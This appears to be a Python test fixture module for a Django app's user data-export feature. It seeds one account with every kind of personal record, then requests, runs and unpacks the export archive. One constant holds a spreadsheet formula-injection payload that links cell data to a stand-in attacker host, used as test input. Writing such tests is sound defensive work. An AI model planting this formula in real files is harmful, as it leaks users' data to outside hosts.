"""A person with everything, and the way through HTTP that a real one goes."""

import io
import zipfile
from datetime import UTC, datetime, time, timedelta
from typing import Any

import orjson
from django.utils import timezone

from accounts.billing.models import Payment, Subscription
from accounts.billing.services import subscription_set
from accounts.consent.models import ConsentType, SharingGrant
from accounts.consent.services import consent_set
from accounts.emergency.models import EmergencyAccess
from accounts.export.running import export_run
from accounts.identity.models import User
from accounts.notifications.models import NotificationKind, PushDevice
from accounts.notifications.services import notification_create
from accounts.profile.models import PrivacySettings, UserPreferences, UserProfile
from accounts.reminders.models import Reminder
from accounts.social.models import SocialAccount

EXPORTS = "/api/v1/users/me/data-exports"
# The worst that a cell can hold, and what PostgreSQL, ZIP, XML and JSON find hard.
FORMULA = '=HYPERLINK("http://evil.example?"&A1)'
ODD_TEXT = "zwölf 🐢 \u2028 \x0b tab\there \"quotes\" 'single' <b>&amp;\r\nnew line"


def everything_of(owner: User, other: User) -> None:
    """Every account row that a person can have, with `other` in those that name somebody."""
    now = timezone.now()
    owner.first_name, owner.display_name, owner.day_starts_at = "Lea", "+Lea", 4
    owner.anonymous_mode, owner.data_retention_days, owner.locale = True, 90, "de-DE"
    owner.save()
    UserProfile.objects.update_or_create(
        owner=owner,
        defaults={
            "phone": "+4915112345678", "date_of_birth": "1990-05-17", "demographics": {"pronouns": "she/her"},
            "gender": "female", "location": "Köln", "occupation": "@work", "bio": ODD_TEXT, "interests": ["chess", "-"],
            "phone_verified_at": now,
        },
    )  # fmt: skip
    PrivacySettings.objects.create(owner=owner, hide_occupation=True, allow_messages=False)
    UserPreferences.objects.create(
        owner=owner, theme="dark", quiet_hours_start=time(22), quiet_hours_end=time(7), settings={"a": [1, {"b": None}]}
    )
    Reminder.objects.create(owner=owner, kind=NotificationKind.MOOD_CHECK_IN, wall_time=time(20, 30), weekdays=[1, 5])
    Reminder.objects.create(owner=owner, kind=NotificationKind.DAILY_TIP, wall_time=time(9), enabled=False)
    consent_set(owner=owner, kind=ConsentType.ANALYTICS, granted=False)
    consent_set(owner=owner, kind=ConsentType.TERMS, granted=True)
    SharingGrant.objects.create(owner=owner, grantee=other, categories=["mood", "crisis"])
    SocialAccount.objects.create(
        owner=owner, provider="google", provider_user_id="g-1", provider_email="lea@gmail.example",
        access_token="ya29.secret-token", last_used_at=now,
    )  # fmt: skip
    PushDevice.objects.create(
        owner=owner, platform="ios", token="push-secret-token", token_hash=owner.pk.bytes * 2, last_seen_at=now
    )
    notification_create(
        owner=owner, kind=NotificationKind.SECURITY_NOTICE, variant="export_ready", now=now,
        data={"therapist_id": str(other.pk)},
    )  # fmt: skip
    subscription_set(actor=other, owner=owner, tier=Subscription.Tier.PREMIUM)
    Payment.objects.create(owner=owner, plan_code="session", amount_cents=500, currency="eur", intent="pi_secret")
    EmergencyAccess.objects.create(owner=owner, actor=other, reason="A call", expires_at=now + timedelta(hours=1))


def export_made(client: Any, form: str = "all") -> Any:
    """Asks by HTTP, works as a worker would, and gives the detail."""
    asked = client.post(EXPORTS, {"format": form})
    assert asked.status_code == 202, asked.content
    assert export_run(export_id=None, clock=timezone.now)
    return client.get(f"{EXPORTS}/{asked.json()['id']}").json()


def downloaded(detail: Any) -> bytes:
    from rest_framework.test import APIClient

    answer = APIClient().get(detail["download_url"])
    assert answer.status_code == 200, answer.content
    return b"".join(answer.streaming_content)


def archive_of(client: Any, form: str = "all") -> tuple[bytes, zipfile.ZipFile]:
    data = downloaded(export_made(client, form))
    return data, zipfile.ZipFile(io.BytesIO(data))


def rows_in(archive: zipfile.ZipFile, name: str) -> list[dict[str, Any]]:
    return orjson.loads(archive.read(f"json/{name}.json"))


def at(text: str) -> datetime:
    return datetime.fromisoformat(text).replace(tzinfo=UTC)
